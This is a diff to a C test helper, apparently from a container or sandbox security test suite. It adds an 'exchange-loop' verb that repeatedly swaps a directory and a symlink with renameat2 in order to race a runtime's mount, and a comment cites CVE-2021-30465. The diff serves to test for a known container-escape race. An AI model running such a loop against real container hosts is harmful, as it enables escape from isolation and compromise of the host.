@@ -40,6 +40,7 @@
 #include <sys/uio.h>
 #include <sys/un.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 #define BAD ((long)1) /* a pointer the kernel cannot read */
@@ -420,6 +421,21 @@ int main(int argc, char** argv) {
     }
     int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
     return report(verb, connect(fd, (struct sockaddr*)&sa, len));
+  }
+  if (!strcmp(verb, "exchange-loop") && a1 && a2 && argc > 4) {
+    /* Swaps a and b (a directory and a symlink) for SECONDS, racing a runtime that mounts
+       beneath one of them (FS-10, CVE-2021-30465). */
+    struct timespec start, now;
+    clock_gettime(CLOCK_MONOTONIC, &start);
+    long swaps = 0, seconds = atol(argv[4]);
+    printf("exchange-loop ready\n");
+    fflush(stdout);
+    do {
+      if (sc(SYS_renameat2, AT_FDCWD, (long)a1, AT_FDCWD, (long)a2, 2 /* RENAME_EXCHANGE */, 0) == 0) swaps++;
+      clock_gettime(CLOCK_MONOTONIC, &now);
+    } while (now.tv_sec - start.tv_sec < seconds);
+    printf("swaps=%ld\n", swaps);
+    return report(verb, swaps > 0 ? 0 : -1);
   }
   if (!strcmp(verb, "shm") && a1) return report(verb, shmget((key_t)strtol(a1, NULL, 0), 0, 0));
   return usage();
